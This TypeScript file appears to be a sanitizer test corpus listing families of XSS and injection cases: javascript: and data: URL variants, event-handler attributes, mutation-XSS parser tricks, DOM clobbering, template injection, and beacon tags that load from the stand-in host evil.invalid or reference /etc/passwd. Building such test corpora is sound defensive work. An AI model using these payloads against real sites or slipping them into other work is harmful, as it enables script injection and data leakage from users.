/** One family of attacks, and its cases as HTML or Markdown; `ran()` in them must never run. */
export interface AttackFamily {
  readonly name: string;
  readonly cases: readonly string[];
}

const attackerOrigin = 'http://evil.invalid';

/** Each place with every address in turn, one below the other; a place's own reference gets a number. */
const combineTemplates = (places: readonly string[], addresses: readonly string[]): string[] => places.map((place) => addresses.map((address, n) => place.replaceAll('%', () => address).replaceAll('[r]', `[r${n}]`)).join('\n\n'));

const scriptAddresses = [
  'javascript:ran()', 'JaVaScRiPt:ran()', ' javascript:ran()', '\u0001javascript:ran()', '\u0000javascript:ran()', '\u00a0javascript:ran()', 'java\tscript:ran()', 'java\nscript:ran()', 'java\r\nscript:ran()',
  'java&Tab;script:ran()', 'javascript&colon;ran()', '&#106;avascript:ran()', '&#x6A;avascript:ran()', '&#0000106avascript:ran()', 'java&#x0A;script:ran()', 'jav&#x09;ascript&#x3A;ran&lpar;&rpar;',
  'javascript:/*--></title></style></textarea></script><svg onload=ran()>*/ran()', 'javascript://%0aran()', 'javascript%3Aran()', 'java\\script:ran()', 'ｊavascript:ran()', 'feed:javascript:ran()', 'view-source:javascript:ran()',
  'jar:javascript:ran()', 'vbscript:ran()', 'livescript:ran()', 'mocha:ran()', 'data:text/html,<script>parent.ran()</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'data:application/javascript,ran()', 'blob:https://clinic.example/1', 'filesystem:https://clinic.example/x', 'file:///etc/passwd', 'about:blank', 'intent://x#Intent;end', 'ms-word:ofe|u|x', 'steam://run', 'chrome://settings', 'ws://evil.invalid', 'ftp://evil.invalid',
] as const;

const addressTemplates = [
  '[words](%)', '[words](<%>)', '![words](%)', '![words](<%>)', '[words][r]\n\n[r]: %', '[words][r]\n\n[r]: <%> "title"', '<%>', '[![words](%)](%)', '<a href="%">words</a>', "<a href='%'>words</a>", '<a href=%>words</a>', '<area href="%">', '<img src="%">',
  '<iframe src="%"></iframe>', '<object data="%"></object>', '<embed src="%">', '<form action="%"><button>go</button></form>', '<button formaction="%">go</button>', '<input type=image src="%">', '<base href="%">', '<meta http-equiv=refresh content="0;url=%">',
  '<svg><a xlink:href="%"><text>t</text></a></svg>', '<svg><use href="%"/></svg>', '<math href="%">t</math>', '<math><mtext xlink:href="%">t</mtext></math>', '<link rel=stylesheet href="%">', '<video src="%" poster="%"></video>', '<blockquote cite="%">t</blockquote>', '<table background="%"><tr><td>t</table>',
] as const;

const elements = 'a abbr address area article aside audio b base bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option output p param permission picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent selectlist shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-y sm-mood-check sm-article-card animate set animateTransform foreignObject image use feImage mglyph mtext annotation-xml'.split(' ');

const handlers = ['onerror=ran() src=/x', 'onload=ran()', 'onfocus=ran() autofocus tabindex=0', 'onanimationstart=ran() style="animation:x 1s"', 'ontoggle=ran() open', 'onbegin=ran() attributeName=x dur=1s', 'onclick=ran() accesskey=x', 'oncontentvisibilityautostatechange=ran() style="content-visibility:auto"', 'onbeforetoggle=ran() popover id=p'];
const tagTemplates = ['<%/§>t</%>', '<%\n§\n>t</%>', '<% x="" §', '<% x=`>`§>t'];
const commonElements = ['img', 'svg', 'details', 'p', 'body', 'sub'];

const clobberedNames = 'defaultView cookie body head forms images links scripts documentElement implementation createElement getElementById querySelector attributes childNodes parentNode nodeName textContent innerHTML shadowRoot renderRoot updateComplete __proto__ constructor toString customElements trustedTypes'.split(' ');

const beaconTemplates = [
  '![b](%)', '![b][r]\n\n[r]: %', '<img src="%">', '<img srcset="% 2x">', '<picture><source srcset="%"><img></picture>', '<a ping="%" href="/x">t</a>', '<link rel=prefetch href="%">', '<link rel=preload as=image href="%">', '<link rel=dns-prefetch href="%">', '<link rel=preconnect href="%">', '<link rel=modulepreload href="%">',
  '<link rel=stylesheet href="%">', '<link rel=icon href="%">', '<link rel=manifest href="%">', '<script src="%"></script>', '<script type=importmap src="%"></script>', '<script type=speculationrules>{"prefetch":[{"urls":["%"]}]}</script>', '<audio src="%" autoplay></audio>', '<video poster="%"></video>', '<video><track default src="%"></video>',
  '<object data="%"></object>', '<embed src="%">', '<iframe src="%"></iframe>', '<iframe srcdoc="<img src=%>"></iframe>', '<frameset><frame src="%"></frameset>', '<portal src="%"></portal>', '<fencedframe src="%"></fencedframe>', '<body background="%">', '<table background="%"><tr><td background="%">t</table>', '<input type=image src="%">',
  '<svg><image href="%"/></svg>', '<svg><image xlink:href="%"/></svg>', '<svg><use href="%#x"/></svg>', '<svg><feImage href="%"/></svg>', '<svg fill="url(%)"><rect/></svg>', '<svg><style>@import "%"</style></svg>', '<p style="background:url(%)">t</p>', '<p style="list-style:url(%)">t</p>', '<style>@import "%"; *{background:url(%)}</style>', '<style>@font-face{font-family:x;src:url(%)}</style>',
  '<meta http-equiv=refresh content="0;url=%">', '<base href="%/"><img src=x>', '<math><maction actiontype="statusline" xlink:href="%">t</maction></math>', '<html manifest="%">', '<xml src="%">', '<bgsound src="%">', '<image src="%">', '<isindex action="%">', '<form action="%" method=post><input name=a value=b><button autofocus>go</button></form><script>document.forms[0].submit()</script>',
] as const;

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>', '<svg></p><style><a id="</style><img src=1 onerror=ran()>">', '<svg><p><style><a id="</style><img src=1 onerror=ran()>">',
  '<math><mi></p><style><a title="</style><img src=1 onerror=ran()>">', '<noscript><p title="</noscript><img src=x onerror=ran()>">', '<noembed><p title="</noembed><img src=x onerror=ran()>">', '<template><p title="</template><img src=x onerror=ran()>">', '<xmp><p title="</xmp><img src=x onerror=ran()>">', '<textarea><p title="</textarea><img src=x onerror=ran()>">',
  '<title><p title="</title><img src=x onerror=ran()>">', '<iframe><p title="</iframe><img src=x onerror=ran()>">', '<select><template><p title="</template></select><img src=x onerror=ran()>">', '<!--><img src=x onerror=ran()>-->', '<!--!><img src=x onerror=ran()>', '<!-- --!><img src=x onerror=ran()>', '<!--<img src="--><img src=x onerror=ran()//">', '<![CDATA[><img src=x onerror=ran()>]]>',
  '<svg><![CDATA[><img src=x onerror=ran()>]]>', '<?xml ><img src=x onerror=ran()>?>', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=ran()>">]>&y;', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>', '<svg><desc><style><img src=x onerror=ran()></style></desc></svg>', '<svg><foreignObject><style><img src=x onerror=ran()></style></foreignObject></svg>',
  '<svg><title><style><img src=x onerror=ran()></style></title></svg>', '<table><td><svg><style></td></table><img src=x onerror=ran()>', '<b><style><b title="</style><img src=x onerror=ran()>">', '<a><svg><style></a><img src=x onerror=ran()>', `${'<div>'.repeat(600)}<svg><style><!--</style><img src=x onerror=ran()>-->`, '<form id=a><form id=b><input name=attributes><input name=parentNode>', '<p><svg><math><style></p><img src=x onerror=ran()>',
  '<plaintext><img src=x onerror=ran()>', '<listing>&lt;img src=x onerror=ran()&gt;</listing>', '<pre>\n\n<img src=x onerror=ran()></pre>', '<img src=x onerror=ran()', '<<img src=x onerror=ran()>', '<img\u0000 src=x onerror=ran()>', '<\u0000img src=x onerror=ran()>', '<im\u0000g src=x onerror=ran()>', '<img src="x` `<script>ran()</script>"` `>', '<img \'"><script>ran()</script>', '<script\u000csrc=data:,ran()></script>', '<script>/*', '<a href="x"onclick=ran()>t</a>',
  '`<img src=x onerror=ran()>', '```html\n<img src=x onerror=ran()>\n', '[a]: <javascript:ran()>\n\n[a]', '[x](y "\\"><img src=x onerror=ran()>")', '![x\\" onerror=ran()//](y)', '![x](y "\" onerror=\"ran()")', '[x](<y" onclick="ran()>)', '| a |\n|--|\n| <img src=x onerror=ran()> |', '> <script>\n> ran()\n> </script>', '- <svg onload=ran()>\n', '<sub\nonclick=ran()>x</sub>', '<details ontoggle=ran() open>x</details>', '&lt;img src=x onerror=ran()&gt;', '&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;', '\\<img src=x onerror=ran()>', '<https://evil.invalid/"onmouseover="ran()>',
] as const;

const textVectors = [
  '${ran()}', '{{constructor.constructor("ran()")()}}', '<%= ran() %>', '#{ran()}', '[[ran()]]', '<!--?lit$1$--><img src=x onerror=ran()>', '{{lit-1}}', 'lit$1$', '\u202e<script>ran()</script>\u2066', 'a\u2067b\u202dc', '\u0000', '\ud800', '\uffff', '<b>bold</b>', '"><img src=x onerror=ran()>', "'-ran()-'", '*'.repeat(40), '__proto__', 'constructor', 'hasOwnProperty', '[object Object]',
];

const unusualMarkup = [
  '<p id=sm class=card part=card slot=x is=sm-x exportparts=y itemid=z name=q data-sm-widget=article-card>t</p>', '<slot></slot><slot name=x></slot>', '<template shadowrootmode=open><slot></slot></template>', '<sm-mood-check submit-to=http://evil.invalid></sm-mood-check>', '<sm-breathing-timer></sm-breathing-timer>', '<smart-meditation></smart-meditation>', '<p role=alert aria-hidden=true aria-label=x tabindex=1>t</p>',
  '<p contenteditable draggable=true hidden inert popover accesskey=x autofocus spellcheck itemscope>t</p>', '<p style="position:fixed;inset:0;z-index:9">cover</p>', '<dialog open>t</dialog>', '<p dir=rtl lang=ar>t</p>', '<a href=/x target=_top download rel=opener>t</a>', '<a href=#body name=x>t</a>', '<label for=x>t</label><output for=x>t</output>', '<input type=password name=password><button type=submit>Log in</button>', '<fieldset form=x><legend>t</legend></fieldset>', '<keygen name=x><select name=y><option>1</select>', '<div popovertarget=x commandfor=x command=close>t</div>', '<h1 onclick=ran()># t</h1>', '<marquee>t</marquee><blink>t</blink>',
];

const newerMarkup = [
  '<button popovertarget=x popovertargetaction=show>t</button><div id=x popover=auto onbeforetoggle=ran() ontoggle=ran()>u</div>', '<button commandfor=x command=show-modal>t</button><dialog id=x oncommand=ran() onclose=ran()>u</dialog>', '<a href="/x" attributionsrc="http://evil.invalid/a" ping="http://evil.invalid/p" interestfor=x>t</a>', '<img src=/x.png attributionsrc="http://evil.invalid/a" srcset="http://evil.invalid/s 2x" sizes=auto loading=lazy fetchpriority=high>',
  '<select><button><selectedcontent><img src=x onerror=ran()></selectedcontent></button><option><img src=x onerror=ran()>a</option></select>', '<div><template shadowrootmode=open shadowrootdelegatesfocus shadowrootclonable shadowrootserializable><img src=x onerror=ran()><style>:host{position:fixed}</style></template></div>', '<template shadowrootmode=closed><script>ran()</script></template>', '<math href="javascript:ran()"><mrow href="javascript:ran()"><mtext>t</mtext></mrow></math>', '<math><semantics><annotation-xml encoding="application/xhtml+xml"><p><svg><script>ran()</script></svg></p></annotation-xml></semantics></math>',
  '<svg><set attributeName=href to="javascript:ran()"/><a id=x><animate attributeName=href values="javascript:ran()"/><text>t</text></a></svg>', '<svg><discard onbegin=ran()/><animateMotion path="M0 0" onend=ran() dur=1s /><mpath href="http://evil.invalid/m"/></svg>', '<svg><filter id=f><feImage href="http://evil.invalid/f"/></filter><rect filter="url(http://evil.invalid/r#f)" mask="url(http://evil.invalid/m)" clip-path="url(//evil.invalid/c)" marker-end="url(//evil.invalid/e)"/></svg>',
  '<div style="background:image-set(\'http://evil.invalid/i\' 1x);cursor:url(//evil.invalid/c),auto;content:url(//evil.invalid/o);mask:url(//evil.invalid/m);offset-path:url(//evil.invalid/p);shape-outside:url(//evil.invalid/h)">t</div>', '<link rel=stylesheet href="data:text/css,*{display:none}" blocking=render><link rel=expect href=#x blocking=render><link rel=compression-dictionary href="//evil.invalid/d">', '<meta http-equiv=content-security-policy content="default-src *"><meta http-equiv=set-cookie content="a=b"><meta name=referrer content=unsafe-url><meta http-equiv=origin-trial content=x><meta name=color-scheme content=dark>',
  '<p is=sm-mood-check>t</p><button is="x-y" onclick=ran()>t</button>', '<p onscrollsnapchange=ran() onscrollend=ran() onpointerrawupdate=ran() onsecuritypolicyviolation=ran() onslotchange=ran() oncommand=ran() onfullscreenchange=ran() onformdata=ran()>t</p>', '<details name=x open><summary>t</summary></details><details name=x ontoggle=ran()><summary onclick=ran()>u</summary>v</details>', '<search><hgroup><menu type=toolbar><menuitem onclick=ran() icon="//evil.invalid/i">t</menuitem></menu></hgroup></search>', '<permission type=geolocation onpromptaction=ran()>t</permission><geolocation autolocate onlocation=ran()></geolocation><usermedia type=camera></usermedia><install></install>',
  '<object type="image/svg+xml" data="data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27parent.ran()%27/%3E"><param name=src value="javascript:ran()"></object>', '<a href="data:text/html;charset=utf-7,+ADw-script+AD4-ran()+ADw-/script+AD4-">t</a><a href="blob:null/1">u</a><a href="https:javascript:ran()">v</a><a href="https://user:pass@evil.invalid">w</a><a href="tel:javascript:ran()">x</a><a href="mailto:a@b?attach=/etc/passwd">y</a>', '<a href="#\u202e" title="\u202e\u2066">\u202egro.cinilc\u202c\u2069\u2069\u200b\u2060\ufeff\u00ad</a>', '<b><p><b><p><a><p><a><table><a><tr><a><td><a><svg><a><foreignObject><a><math><mi><a><style></a><img src=x onerror=ran()>', '<table><caption><svg><title><table><caption><style></caption></table><img src=x onerror=ran()></style>',
  '<math><ms><b><mglyph><malignmark><svg><mtext><textarea><path><style></textarea><img src=x onerror=ran()></style>', '<form><input name=ownerDocument><input name=getRootNode><input name=nodeType><input name=removeAttribute><input name=querySelectorAll></form>', '<select><math><mtext><option><style></select><img src=x onerror=ran()></style>', '<noscript><style></noscript><img src=x onerror=ran()></style>', `${'<details><summary>t</summary>'.repeat(40)}<svg onload=ran()>`, '<p lang="\"><img src=x onerror=ran()>" dir="javascript:ran()" title="--><script>ran()</script>">t</p>', '<ol start=99999999999999999999 reversed type="javascript:ran()"><li value=-1>t</ol>',
] as const;

/** The families. A case is tried in every field of a document. */
export const families: readonly AttackFamily[] = [
  {name: 'script addresses', cases: combineTemplates(addressTemplates, scriptAddresses)},
  {name: 'addresses', cases: scriptAddresses},
  {name: 'handlers', cases: elements.map((element) => handlers.map((handler) => `<${element} ${handler}>t</${element}>`).join('\n\n'))},
  {name: 'spellings', cases: commonElements.flatMap((element) => tagTemplates.map((spelling) => spelling.replaceAll('%', element).replace('§', 'onerror=ran() onload=ran() ontoggle=ran()')))},
  {name: 'elements', cases: elements.map((element) => `<${element} id=x class=y name=z style="color:red" href=${attackerOrigin} src=${attackerOrigin} action=${attackerOrigin}>t<p>u</p></${element}>`)},
  {name: 'mutation', cases: mutations},
  {name: 'clobbering', cases: clobberedNames.map((name) => `<a id=${name} href=/x>t</a>\n\n<img name=${name} alt=t>\n\n<form id=${name}><input name=${name}></form>\n\n# ${name}\n\n[t](#${name})\n\n[${name}]: /x\n\n[${name}]`)},
  {name: 'beacons', cases: combineTemplates(beaconTemplates, [`${attackerOrigin}/b`, '//evil.invalid/b', '\\\\evil.invalid/b', 'http:\\\\evil.invalid/b'])},
  {name: 'words', cases: textVectors},
  {name: 'strange markup', cases: unusualMarkup},
  {name: 'newer markup', cases: newerMarkup},
];
